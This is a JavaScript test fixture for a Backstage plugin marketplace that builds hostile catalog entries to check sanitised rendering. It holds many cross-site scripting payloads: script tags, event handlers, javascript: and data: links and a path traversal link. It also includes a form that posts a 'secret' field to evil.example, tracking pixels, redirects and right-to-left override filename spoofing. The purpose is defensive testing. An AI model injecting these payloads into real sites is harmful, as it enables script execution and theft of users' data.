const apiVersion = 'marketplace.backstage.io/v1alpha1';

/** What a script does that has been let run: browser tests notice both. */
const script = "window.harm?.(); alert('harm')";

/** Markup that does harm, or asks a stranger, wherever it is taken for markup. */
export const hostileMarkup = [
  `<script>${script}</script>`,
  `<img src="x" onerror="${script}">`,
  `<svg onload="${script}"><script>${script}</script></svg>`,
  `<iframe src="https://evil.example/frame" srcdoc="<script>window.harm?.()</script>"></iframe>`,
  '<form action="https://evil.example/take"><input name="secret" autofocus><button>Send</button></form>',
  '<style>* { display: none !important }</style>',
  '<link rel="stylesheet" href="https://evil.example/style.css">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  `<p style="position: fixed; inset: 0; z-index: 9999" onmouseover="${script}">over all</p>`,
  `<details open ontoggle="${script}">open</details>`,
  '<video src="https://evil.example/film" autoplay></video>',
  '<img src="https://evil.example/pixel.gif">',
];

/** Links that must not be followed, and images that must not be fetched, in markdown. */
export const hostileLinks = [
  `[a script](javascript:${encodeURIComponent(script)})`,
  `[a hidden script](java&#x0A;script:${encodeURIComponent(script)})`,
  '[a page](data:text/html,<script>alert(1)</script>)',
  '[a macro](vbscript:msgbox)',
  '[a host](//evil.example/host)',
  '[a way up](../../../../settings)',
  '![an image](https://evil.example/image.png)',
  '![a moved image](//evil.example/moved.png)',
];

/** Shows `gpj.exe` as `exe.jpg`, and would turn round what follows. */
const turned = '\u202egpj.exe';

const svg = body => `data:image/svg+xml,${encodeURIComponent(body)}`;
const svgTag = '<svg xmlns="http://www.w3.org/2000/svg"';

/**
 * Entries as somebody writes them who means harm, or never tried them.
 *
 * @param {string} added the day on which they were added, as 2026-01-31
 */
export function hostileEntries(added) {
  const history = { added };
  return [
    plugin(
      {
        name: 'hostile-markup',
        title: `Hostile markup <img src=x onerror="${script}">`,
        description: `Of <b>markup</b> <script>${script}</script>`,
        links: [
          { url: `javascript:${script}`, title: 'A scripted link' },
          {
            url: 'https://ok.example/',
            title: `<img src=x onerror="${script}">`,
          },
        ],
      },
      {
        author: {
          name: `<b>Author</b><script>${script}</script>`,
          url: `javascript:${script}`,
        },
        publisher: `<script>${script}</script>`,
        lifecycle: `<script>${script}</script>`,
        categories: [`<b>Category</b><script>${script}</script>`],
        capabilities: [`<script>${script}</script>`],
        description: [...hostileMarkup, ...hostileLinks, 'The end.'].join(
          '\n\n',
        ),
        highlights: [`<script>${script}</script>`, ...hostileLinks],
        icon: svg(
          `${svgTag} onload="${script}" viewBox="0 0 9 9"><script>${script}</script><image href="https://evil.example/icon.png" width="9" height="9"/><rect width="9" height="9"/></svg>`,
        ),
        packages: ['@hostile/plugin-readme'],
        history,
      },
    ),
    plugin(
      {
        name: 'hostile-giant',
        title: `Giant${'W'.repeat(195)}`,
        description: 'w'.repeat(5_000),
      },
      {
        author: 'A'.repeat(5_000),
        publisher: 'P'.repeat(5_000),
        categories: ['C'.repeat(1_000)],
        description: 'd'.repeat(10_000),
        highlights: ['H'.repeat(5_000)],
        icon: svg(
          `${svgTag} width="99999" height="99999"><rect width="99999" height="99999"/></svg>`,
        ),
        packages: [`@hostile/${'n'.repeat(200)}`],
        history,
      },
    ),
    plugin(
      {
        name: 'hostile-brackets',
        title: 'Hostile brackets',
        description: '['.repeat(2_000),
      },
      { description: '['.repeat(90_000), highlights: ['*'.repeat(5_000)] },
    ),
    plugin(
      {
        name: 'hostile-bidi',
        title: `Hostile direction ${turned}`,
        description: `A picture ${turned} \u2067of nobody`,
      },
      {
        author: `Somebody ${turned}`,
        categories: [`Pictures ${turned}`],
        description: `See ${turned} for more.`,
        highlights: [`Not ${turned}`],
        history,
      },
    ),
    plugin(
      {
        name: 'right-to-left',
        title: 'תוסף לדוגמה',
        description: 'יישום להצגת פריסות, מימין לשמאל.',
      },
      { author: 'צוות', description: 'תיאור ארוך יותר.', history },
    ),
    // These are refused: each is beyond what an entry may be
    plugin({ name: 'too-long-title', title: 'T'.repeat(10_000) }, {}),
    plugin(
      {
        name: 'too-long-description',
        title: 'Too long',
        description: 'D'.repeat(10_000),
      },
      {},
    ),
    plugin({ name: 'fetching', title: { $text: 'https://evil.example/' } }, {}),
  ];
}

function plugin(metadata, spec) {
  return { apiVersion, kind: 'Plugin', metadata, spec };
}
